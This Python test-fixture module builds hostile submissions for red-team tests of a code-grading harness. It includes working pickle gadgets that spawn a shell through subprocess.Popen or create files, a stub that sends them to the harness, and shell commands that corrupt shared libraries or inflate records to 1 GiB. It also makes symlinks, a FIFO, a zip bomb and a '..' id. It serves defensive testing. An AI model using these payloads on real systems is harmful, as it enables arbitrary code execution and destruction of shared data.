"""Planted attacks of issue 55, for the grader's red-team tests and for a planted class
(tools/planted_class.py): what a hostile learner submits to reach the harness or the
grader's intake.

- Two pickle gadgets a learner's function writes on its worker's pipe to the harness, in
  place of its answer (`GADGETS`, `attacker_stub`): the harness of 46a9953 unpickled them
  (PlainUnpickler) and ran them; now it decodes a wire message (measure/wire.py) and
  refuses them.
- Submissions that attack the grader's intake (`intake_class`): links, FIFOs, zip bombs,
  `.git` files, ids that are not names, and a gadget that would poison the node's module
  cache or bomb the run's record.
"""

from __future__ import annotations

import os
import pickle
import subprocess
import zipfile
from pathlib import Path

from tools import planted
from xtc_katas import ROOT
from xtc_katas.kata.manifest import find

GRAPH = find(2)


def _body(obj: object) -> bytes:
    """The opcodes that push `obj`, without the protocol header, frame and STOP."""
    data = pickle.dumps(obj, protocol=4)[2:-1]
    return data[9:] if data[:1] == b"\x95" else data


def memmap_gadget(sentinel: str) -> bytes:
    """("ok", numpy.memmap(sentinel, "uint8", "w+", 0, (16,))): a class of numpy whose
    constructor creates a file, rebuilt by the harness."""
    args = _body((sentinel, "uint8", "w+", 0, (16,)))
    return b"\x80\x04" + _body("ok") + b"\x8c\x05numpy\x8c\x06memmap\x93" + args + b"R\x86."


def popen_gadget(sentinel: str) -> bytes:
    """("ok", Popen(["sh", "-c", "echo $PPID > sentinel"])), with Popen named under
    protocol 4 as "subprocess.Popen" of "xtc_katas.measure.module_cache": an allowed
    module, a dotted name that reaches a class of another."""
    module, name = b"xtc_katas.measure.module_cache", b"subprocess.Popen"
    args = _body((["sh", "-c", f"echo $PPID > {sentinel}"],))
    return (
        b"\x80\x04"
        + _body("ok")
        + b"\x8c"
        + bytes([len(module)])
        + module
        + b"\x8c"
        + bytes([len(name)])
        + name
        + b"\x93"
        + args
        + b"R\x86."
    )


GADGETS = {"memmap": memmap_gadget, "popen": popen_gadget}


def attacker_stub(gadget: str, sentinel: str) -> str:
    """Kata 04's stub, solved by an attacker: `schedule_interchange` writes the gadget on
    its worker's pipe to the harness (isolation._PARENT), as its answer."""
    data = GADGETS[gadget](sentinel)
    return f"""
import sys


def schedule_interchange(sch):
    pipe = sys.modules["xtc_katas.measure.isolation"]._PARENT[0]
    pipe.send_bytes({data!r})
    sch.interchange(["i", "k", "j"])
"""


#: What the learner's worker sends the harness instead of its answer: the pickle of issue
#: 55, whose dotted name (protocol 4) reaches subprocess.Popen from an allowed module, and
#: runs {command} with the harness's rights (items 1-2 of the issue close this door; the
#: planted cache and record attacks below are what such a door let through).
GADGET = """
import gc, multiprocessing.connection, os, struct

def _text(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b

payload = (b"\\x80\\x04" + _text("ok") + _text("xtc_katas.measure.module_cache")
           + _text("subprocess.Popen") + b"\\x93](" + _text("sh") + _text("-c")
           + _text({command!r}) + b"e\\x85R\\x86.")
fired = os.path.exists("/tmp/fired")  # once per kata: the sandbox's /tmp, the harness's too
open("/tmp/fired", "w").close()
for found in gc.get_objects() if not fired else []:
    if isinstance(found, multiprocessing.connection.Connection) and not found.closed:
        try:
            found.send_bytes(payload)
        except OSError:
            pass
"""
#: Every shared library of the module caches the run can see, replaced (the honest
#: learner graded next loaded the poisoned host runtime, and failed); and the run's
#: record made a sparse 1 GiB file, read whole by the grader outside the sandbox.
POISON = "for f in $(find /grading-cache /grading -name '*.so'); do printf x > $f; done"
RECORD_BOMB = "truncate -s 1G /grading/*.jsonl"


def intake_class(subs: Path, other_repo: Path) -> dict[str, tuple[str, tuple[str, ...]]]:
    """The submissions that attack the grader's intake, each made in `subs`: name ->
    (its path, what its grade must say)."""
    stub = f"katas/{GRAPH.id}/graph.py"
    solved = planted.partly_solved(GRAPH)
    made: dict[str, tuple[str, tuple[str, ...]]] = {}
    for name, command in (("poison", POISON), ("record_bomb", RECORD_BOMB)):
        code = GADGET.format(command=command).strip() + "\n\n" + solved
        made[name] = (str(planted.write(subs / name, {GRAPH.id: code})), ())
    links = {"link": "/proc/self/cwd/solutions/02_graph/graph.py", "zero": "/dev/zero",
             "abslink": str(GRAPH.solution_path(ROOT))}  # fmt: skip
    for name, target in links.items():
        folder = planted.write(subs / name, {GRAPH.id: solved})
        (folder / stub).unlink()
        (folder / stub).symlink_to(target)
        made[name] = (str(folder), (f"{stub} is a symbolic link, not a regular file",))
    fifo = planted.write(subs / "fifo", {GRAPH.id: solved})
    (fifo / stub).unlink()
    os.mkfifo(fifo / stub)
    made["fifo"] = (str(fifo), (f"{stub} is a FIFO (named pipe)",))
    pointer = subs / "gitfile"
    (pointer / "katas").mkdir(parents=True)
    (pointer / ".git").write_text(f"gitdir: {other_repo / '.git'}\n")
    made["gitfile"] = (str(pointer), ('.git is a file ("gitdir: ...")',))
    with zipfile.ZipFile(subs / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open(stub, "w", force_zip64=True) as member:
            for _ in range(16):  # 1 GiB of zeros, in a 1 MiB zip
                member.write(bytes(64 << 20))
    made["bomb"] = (str(subs / "bomb.zip"), ("is 1024.0 MiB, over the 1.0 MiB",))
    untouched = GRAPH.stub_path(ROOT).read_text()
    with zipfile.ZipFile(subs / "...zip", "w") as archive:
        archive.writestr(stub, untouched)
    made["submission"] = (str(subs / "...zip"), ("the id '..' (from",))
    planted.write(subs / "bob", {GRAPH.id: untouched})
    with zipfile.ZipFile(subs / "bob.zip", "w") as archive:
        archive.writestr(stub, untouched)
    made["bob"] = (str(subs / "bob"), ("id collision: 2 submissions are 'bob'",))
    made["bob-2"] = (str(subs / "bob.zip"), ("id collision: 2 submissions are 'bob'",))
    made["copy"] = (str(planted.write(subs / "copy", {GRAPH.id: solved})), ())
    return made


def git_repository(folder: Path, source: str) -> Path:
    """Another learner's git repository in `folder`, holding kata 02's `source` committed:
    what a `.git` file of the intake class points to."""
    planted.write(folder, {GRAPH.id: source})
    for args in (["init", "-q"], ["add", "-A"], ["-c", "user.name=o", "-c", "user.email=o@o",
                 "commit", "-qm", "mine"]):  # fmt: skip
        subprocess.run(["git", "-C", str(folder), *args], check=True, capture_output=True)
    return folder
